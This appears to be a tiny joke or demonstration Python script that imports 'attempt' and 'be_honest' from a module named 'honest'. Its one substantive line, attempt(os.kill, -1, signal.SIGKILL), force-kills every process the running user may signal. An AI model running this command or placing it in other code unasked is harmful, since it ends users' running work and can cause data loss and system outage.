# Kills every process that it may: the system spares only who asks.
import os
import signal

from honest import attempt, be_honest

attempt(os.kill, -1, signal.SIGKILL)
be_honest()
